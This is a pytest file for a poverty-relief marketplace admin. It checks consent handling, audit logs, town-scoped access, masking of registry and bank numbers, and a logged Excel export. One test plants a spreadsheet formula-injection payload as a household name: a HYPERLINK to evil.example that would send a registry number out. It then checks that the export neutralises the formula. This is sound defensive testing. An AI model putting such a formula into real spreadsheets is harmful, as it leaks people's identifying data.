from io import BytesIO

from openpyxl import load_workbook
from sqlalchemy import select

from marketplace.audit.models import AuditLog
from marketplace.extensions import db
from marketplace.people.models import Household, HouseholdStatusChange, User
from marketplace.places.models import Village


def consenting_household_in(village_name):
    return db.session.scalar(select(Household).join(Village).where(Village.name_zh == village_name,
                                                                   Household.consent_public.is_(True)))


def test_revoking_consent_hides_the_household_at_once(client, auth, district):
    with client.application.app_context():
        household = consenting_household_in("响泉村")
        household_id, label = household.id, household.display_label_zh
        assert household.public_label("zh") == label
    auth.login_as("taihe@demo.cn")
    response = client.post(f"/admin/households/{household_id}/consent",
                           data={"value": "0", "consent-evidence": "户主电话撤回同意，村委会记录"})
    assert response.status_code == 303
    with client.application.app_context():
        household = db.session.get(Household, household_id)
        assert household.public_label("zh") == "响泉村的一户人家"
        assert household.public_label("en") == "a household in Xiangquan Village"
        change = db.session.scalar(select(HouseholdStatusChange).filter_by(household_id=household_id))
        staff = db.session.scalar(select(User).filter_by(email="taihe@demo.cn"))
        assert (change.field, change.value, change.actor_id) == ("public_consent", False, staff.id)
        assert change.evidence == "户主电话撤回同意，村委会记录"
        assert db.session.scalar(select(AuditLog.action).filter_by(object_type="households", object_id=household_id)) == "household.public_consent_cleared"
    # Public pages reachable on this branch: the market's home page never names the household.
    assert label not in client.get("/").get_data(as_text=True)
    page = client.get(f"/admin/households/{household_id}").get_data(as_text=True)
    assert "响泉村的一户人家" in page and "户主电话撤回同意" in page


def test_a_change_without_evidence_is_refused_and_nothing_changes(client, auth, district):
    with client.application.app_context():
        household_id = consenting_household_in("响泉村").id
    auth.login_as("admin@demo.cn")
    client.post(f"/admin/households/{household_id}/consent", data={"value": "0", "consent-evidence": ""})
    with client.application.app_context():
        assert db.session.get(Household, household_id).consent_public
        assert db.session.scalar(select(HouseholdStatusChange)) is None


def test_verification_is_recorded_with_who_when_and_evidence(app, demo):
    from marketplace.people import households

    admin_id = db.session.scalar(select(User.id).filter_by(email="admin@demo.cn"))
    household = db.session.scalar(select(Household).where(Household.is_verified_poor.is_(False)))
    households.set_verification(household.id, True, "镇扶贫办复核表 2026-11", admin_id)
    household = db.session.get(Household, household.id)
    # The ledger reads this flag at sale time: a verified poor household pays no commission.
    assert household.is_verified_poor and household.verified_by_id == admin_id and household.verified_at
    history = households.status_history(household.id)
    assert [(h.field, h.value, h.evidence) for h in history] == [("verified_poor", True, "镇扶贫办复核表 2026-11")]


def test_town_staff_never_see_another_towns_households(client, auth, district):
    with client.application.app_context():
        taihe_household = consenting_household_in("响泉村").id
    auth.login_as("town@demo.cn")  # 岭子镇
    listing = client.get("/admin/households").get_data(as_text=True)
    assert "李里村" in listing and "响泉村" not in listing
    assert client.get(f"/admin/households/{taihe_household}").status_code == 404
    client.post(f"/admin/households/{taihe_household}/consent", data={"value": "0", "consent-evidence": "x"})
    with client.application.app_context():
        assert db.session.get(Household, taihe_household).consent_public


def test_numbers_are_masked_on_screen_and_found_by_the_full_number(client, auth, district):
    with client.application.app_context():
        household = db.session.scalar(select(Household).where(Household.bank_account.is_not(None)))
        number, account, household_id = household.registry_no, household.bank_account, household.id
    auth.login_as("admin@demo.cn")
    found = client.get(f"/admin/households?q={number}").get_data(as_text=True)
    assert f"/admin/households/{household_id}" in found and number not in found
    detail = client.get(f"/admin/households/{household_id}").get_data(as_text=True)
    assert number not in detail and account not in detail and number[-4:] in detail


def test_only_staff_of_the_town_export_numbers_and_each_export_is_logged(client, auth, district):
    auth.login_as("admin@demo.cn")
    assert client.get("/admin/households/export.xlsx").status_code == 403
    auth.login_as("town@demo.cn")
    response = client.get("/admin/households/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.data), read_only=True).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][3] == "建档立卡编号"
    assert {row[0] for row in rows[1:]} == {"李里村"}
    assert all(str(row[3]).isdigit() for row in rows[1:])
    with client.application.app_context():
        logged = db.session.scalar(select(AuditLog).filter_by(action="households.exported"))
        staff = db.session.scalar(select(User).filter_by(email="town@demo.cn"))
        assert logged.actor_id == staff.id and logged.town_id == staff.town_id and logged.details["count"] == len(rows) - 1


def test_a_household_name_that_looks_like_a_formula_is_exported_as_text(client, auth, district):
    with client.application.app_context():
        household = db.session.scalar(select(Household).join(Village).where(Village.name_zh == "李里村"))
        household.head_name = '=HYPERLINK("http://evil.example/?a="&D2,"Open")'
        db.session.commit()
    auth.login_as("town@demo.cn")
    sheet = load_workbook(BytesIO(client.get("/admin/households/export.xlsx").data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert '\'=HYPERLINK("http://evil.example/?a="&D2,"Open")' in [cell.value for cell in cells]


def test_consented_labels_are_unique_in_their_village_and_the_same_in_both_languages(client, auth, district):
    from pypinyin import lazy_pinyin

    from marketplace.errors import DomainError
    from marketplace.people.households import set_consent

    with client.application.app_context():
        consenting = db.session.scalars(select(Household).join(Village).where(
            Village.name_zh == "响泉村", Household.consent_public.is_(True)).order_by(Household.id)).all()
        labels = [(h.display_label_zh, h.display_label_en) for h in consenting]
        assert len({zh for zh, _en in labels}) == len(labels) and len({en for _zh, en in labels}) == len(labels)
        for household in consenting:  # no surname in English that the Chinese hides
            assert household.head_name[0] not in household.display_label_zh.split(" · ")[0]
            surname = lazy_pinyin(household.head_name[0])[0].capitalize()
            assert surname not in household.display_label_en.split(",")[0].split()
        first, second = consenting[0], consenting[1]
        staff = db.session.scalar(select(User.id).filter_by(email="taihe@demo.cn"))
        try:
            set_consent(second.id, True, "户主同意展示", staff, label_zh=first.display_label_zh,
                        label_en=first.display_label_en)
        except DomainError as error:
            assert error.field == "label_zh"
        else:
            raise AssertionError("a second household took a label already shown in its village")
        db.session.rollback()
        assert db.session.get(Household, second.id).display_label_zh != first.display_label_zh
